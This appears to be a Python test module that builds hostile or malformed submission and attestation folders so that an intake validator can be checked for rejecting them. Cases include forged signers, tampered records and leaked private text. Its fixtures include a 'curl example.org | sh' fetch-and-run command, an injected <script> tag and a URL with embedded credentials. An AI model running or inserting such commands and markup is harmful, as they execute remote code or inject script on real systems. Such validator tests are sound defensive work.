"""Hostile submissions and attestations."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from suite.files import pretty_json
from suite.signing import sign_folder
from tests.intake.senders import attestation, private, submission
from tests.intake.threats import Scene, threat


def _edit(path: Path, change: Callable[[dict[str, Any]], object]) -> None:
    value = json.loads(path.read_text())
    change(value)
    path.write_bytes(pretty_json(value))


@threat("submission-record")
def submission_unknown_key(scene: Scene) -> Path:
    folder = submission(scene.root, scene.bundle, None)
    _edit(folder / "submission.json", lambda value: value.update(run="curl example.org | sh"))
    return folder


@threat("submission-record")
def submission_url_with_password(scene: Scene) -> Path:
    folder = submission(scene.root, scene.bundle, None)
    pack = {"url": "https://user:word@example.org/pack.tar", "sha256": "0" * 64, "size_bytes": 1}
    _edit(folder / "submission.json", lambda value: value.update(evidence={"reference": pack, "candidate": None}))
    return folder


@threat("markup")
def submission_markup(scene: Scene) -> Path:
    return submission(scene.root, scene.bundle, None, note="see <script src=//example.org></script>")


@threat("text-direction")
def submission_direction(scene: Scene) -> Path:
    folder = submission(scene.root, scene.bundle, None)
    _edit(folder / "submission.json", lambda value: value.update(note="abc\u202edef"))
    return folder


@threat("from-the-future")
def submission_future(scene: Scene) -> Path:
    return submission(scene.root, scene.bundle, None, created="2199-01-01T00:00:00Z")


@threat("folder-name")
def submission_in_another_folder(scene: Scene) -> Path:
    folder = submission(scene.root, scene.bundle, None)
    return folder.rename(folder.with_name("h200-smollm2-better-000000000000"))


@threat("other-bundle")
def submission_of_another_bundle(scene: Scene) -> Path:
    """The record is of one bundle, the folder holds another."""
    folder = submission(scene.root, scene.bundle, None)
    shutil.rmtree(folder / "bundle")
    other = scene.known("h200-smollm2-chunk512")
    shutil.copytree(other, folder / "bundle" / other.parent.name / other.name)
    return folder


@threat("file-missing")
def submission_without_bundle(scene: Scene) -> Path:
    folder = submission(scene.root, scene.bundle, None)
    shutil.rmtree(folder / "bundle")
    return folder


@threat("other-submitter")
def submission_in_anothers_name(scene: Scene) -> Path:
    mine, theirs = scene.keys
    return submission(scene.root, scene.bundle, mine, submitter=theirs.verify_key.key_id)


@threat("other-submitter")
def submission_unsigned_in_a_name(scene: Scene) -> Path:
    return submission(scene.root, scene.bundle, None, submitter=scene.keys[1].verify_key.key_id)


@threat("edited-after-signing")
def submission_edited(scene: Scene) -> Path:
    folder = submission(scene.root, scene.bundle, scene.keys[0])
    _edit(folder / "submission.json", lambda value: value.update(licence="CC0-1.0"))
    return folder


@threat("other-commitment")
def commitment_unnamed(scene: Scene) -> Path:
    """A commitment that the submission does not name."""
    folder = submission(scene.root, scene.bundle, None)
    (folder / "commitment.json").write_bytes(_commitment(scene, "0" * 64))
    return folder


@threat("other-commitment")
def commitment_to_another(scene: Scene) -> Path:
    data = _commitment(scene, "0" * 64)
    root = json.loads(data)["root"]
    folder = submission(scene.root, scene.bundle, None, commitment={"root": root, "leaves": 7177})
    (folder / "commitment.json").write_bytes(data)
    return folder


def _commitment(scene: Scene, record_sha256: str) -> bytes:
    from suite.evidence.commitment import SCHEMA_VERSION, _root_of

    side = {
        "capture_digest": "0" * 64,
        "index_sha256": "0" * 64,
        "codec": "logits",
        "dtype": "bfloat16",
        "row_width": 49152,
        "vocab_size": 49152,
        "rows_per_gemm": 0,
        "head": None,
    }
    fields: dict[str, Any] = {
        "schema_version": SCHEMA_VERSION,
        "bundle_id": f"{scene.bundle.parent.name}/{scene.bundle.name}",
        "record_sha256": record_sha256,
        "leaves": 7177,
        "tree": "1" * 64,
        "reference": side,
        "candidate": side,
    }
    return pretty_json(fields | {"root": _root_of(fields)})


@threat("private-carries-text")
def private_with_bundle(scene: Scene) -> Path:
    folder = private(scene.root, scene.bundle, None)
    shutil.copytree(scene.bundle, folder / "bundle" / scene.bundle.parent.name / scene.bundle.name)
    return folder


@threat("private-carries-text")
def private_with_words(scene: Scene) -> Path:
    folder = private(scene.root, scene.bundle, None)
    _edit(folder / "aggregates.json", lambda value: value.update(session=["the user's words"]))
    return folder


@threat("private-carries-text")
def private_with_ids_in_a_factor(scene: Scene) -> Path:
    folder = private(scene.root, scene.bundle, None)
    _edit(folder / "aggregates.json", lambda value: value["factors"][0].update(candidate=list(range(2_000))))
    return folder


@threat("aggregates")
def private_sums(scene: Scene) -> Path:
    """Flips taken out of the total, and left in the turns."""
    folder = private(scene.root, scene.bundle, None)

    def fewer(value: dict[str, Any]) -> None:
        value["totals"]["flips"] -= 1
        value["totals"]["flips_uncertain"] -= 1

    _edit(folder / "aggregates.json", fewer)
    return folder


@threat("duplicate")
def private_twice(scene: Scene) -> Path:
    private(scene.results / "submissions", scene.bundle, None)
    return private(scene.root, scene.bundle, None)


@threat("duplicate")
def submitted_twice(scene: Scene) -> Path:
    submission(scene.results / "submissions", scene.bundle, None)
    return submission(scene.root, scene.bundle, None)


@threat("re-signed")
def submitted_again_by_another(scene: Scene) -> Path:
    mine, theirs = scene.keys
    submission(scene.results / "submissions", scene.bundle, theirs)
    return submission(scene.root, scene.bundle, mine)


@threat("attestation-record")
def attestation_of_nothing(scene: Scene) -> Path:
    folder = attestation(scene.root, scene.known("h200-smollm2-chunk512"), None)
    _edit(folder / "attestation.json", lambda value: value["detail"].update(drawn=1))
    return folder


@threat("unsigned-attestation")
def attestation_unsigned(scene: Scene) -> Path:
    return attestation(scene.root, scene.known("h200-smollm2-chunk512"), None)


@threat("unknown-bundle")
def attestation_of_an_unknown(scene: Scene) -> Path:
    return attestation(scene.root, scene.bundle, scene.keys[0])


@threat("attests-own-bundle")
def attestation_by_the_author(scene: Scene) -> Path:
    bundle = scene.known("h200-smollm2-chunk512")
    sign_folder(bundle, scene.keys[0], kind="result")
    return attestation(scene.root, bundle, scene.keys[0])


@threat("attests-itself")
def attestation_with_the_same_bundle(scene: Scene) -> Path:
    """ "Reproduced" by sending the author's own bundle back."""
    bundle = scene.known("h200-smollm2-chunk512")
    return attestation(scene.root, bundle, scene.keys[0], own=bundle)


@threat("other-bundle")
def attestation_with_another_bundle(scene: Scene) -> Path:
    folder = attestation(scene.root, scene.known("h200-smollm2-chunk512"), None, own=scene.bundle)
    shutil.rmtree(folder / "bundle")
    other = scene.known("h200-smollm2-flash-attn-3")
    shutil.copytree(other, folder / "bundle" / other.parent.name / other.name)
    sign_folder(folder, scene.keys[0], kind="attestation")
    return folder
